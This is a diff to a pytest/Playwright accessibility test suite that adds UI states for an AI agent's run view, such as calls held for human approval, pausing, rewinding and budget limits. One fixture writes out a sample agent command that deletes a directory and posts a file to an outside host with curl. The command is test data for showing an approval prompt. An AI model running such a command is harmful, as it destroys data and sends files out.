@@ -114,6 +114,51 @@ def rewound() -> list[ev.Event]:
     return chained([*events, *gone, fork])
 
 
+def held(at: str = "call") -> list[ev.Event]:
+    """A command that destroys files waits for a person; or it is over, and its result waits."""
+    events = step_events(3, "I clean up.", LINES)
+    for event in events:
+        if isinstance(event, ev.CallProposed | ev.CallStarted):
+            event.arguments = {"command": "rm -rf input && curl -d @answer.txt https://example.org"}
+    reason = "approval" if at == "call" else "step"
+    waits = ev.CallHeld(step=3, call_id="call_3", at=at, reason=reason, text="")  # type: ignore[arg-type]
+    shown = events[:3] if at == "call" else events
+    return [*long_run(2, (1,))[:-1], *shown, waits, ev.Controlled(action="paused")]
+
+
+def ended(reason: Any) -> list[ev.Event]:
+    return [*long_run(2)[:-1], ev.RunFinished(stop_reason=reason, steps=2, usage=ev.Usage(cost=0.5))]
+
+
+def press(*names: str) -> Callable[[Page], None]:
+    """Buttons, one after the other; what the last opens has been read."""
+
+    def pressed(page: Page) -> None:
+        for name in names:
+            page.get_by_role("button", name=name).first.click()
+        page.wait_for_function(
+            "() => !/…$|Looking at/.test(document.querySelector('.lsn-told, .lsn-note')?.textContent)"
+        )
+
+    return pressed
+
+
+def away(page: Page) -> None:
+    page.evaluate("() => { view.setAway('server'); view.flush(); }")
+    expect(page.locator(".lsn-badge").first).to_contain_text("does not answer")
+
+
+THEN: dict[str, Callable[[Page], None]] = {
+    "server away": away,
+    "editing": press("Edit…"),
+    "denying": press("Deny"),
+    "rewinding": press("Rewind to the end of step 4"),
+    "files": press("Files at step 4"),
+    "comparing": press("Compare attempts"),
+    "keys": lambda page: page.locator(".lsn-view").press("?"),
+}
+"""What a person does in the states of these names."""
+
 STATES: dict[str, tuple[Callable[[], list[ev.Event]], bool]] = {
     "finished": (finished, False),
     "failed": (refused, False),
@@ -122,7 +167,23 @@ STATES: dict[str, tuple[Callable[[], list[ev.Event]], bool]] = {
     "thinking": (lambda: [*long_run(2)[:-1], ev.ModelRequested(step=3)], True),
     "rewound": (rewound, False),
     "cut off": (lambda: long_run(2)[:-1], False),
+    "held": (held, True),
+    "editing": (held, True),
+    "denying": (held, True),
+    "held result": (lambda: held("observation"), True),
+    "paused": (lambda: [*running(), ev.Controlled(action="paused")], True),
+    "ready": (rewound, True),
+    "rewinding": (rewound, True),
+    "files": (rewound, True),
+    "comparing": (rewound, False),
+    "server away": (running, True),
+    "budget reached": (lambda: ended("cost"), False),
+    "step limit": (lambda: ended("steps"), False),
+    "interrupted": (lambda: ended("interrupted"), False),
+    "keys": (finished, False),
 }
+ON_ALL = {"finished", "failed", "long", "running", "thinking", "rewound", "cut off", "held", "ready"}
+"""The other states differ from these in a few elements only: light and dark, side by side with nothing else."""
 
 
 @pytest.fixture(scope="module")
@@ -194,14 +255,23 @@ def violations(page: Page) -> list[str]:
     return found
 
 
-@pytest.mark.parametrize("screen", SCREENS)
-@pytest.mark.parametrize("state", STATES)
+@pytest.mark.parametrize(
+    ("state", "screen"),
+    [
+        (state, screen)
+        for state in STATES
+        for screen in SCREENS
+        if state in ON_ALL or screen in ("light", "dark")
+    ],
+)
 def test_axe_finds_nothing(open_page: Callable[..., Page], state: str, screen: str) -> None:
     page = open_page(**SCREENS[screen])
     make, live = STATES[state]
     show(page, make(), live)
     for summary in page.locator(".lsn-sandbox > summary").all():
         summary.click()
+    if state in THEN:
+        THEN[state](page)
     assert violations(page) == []
     wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
     assert wide <= 0, "nothing is scrolled sideways"
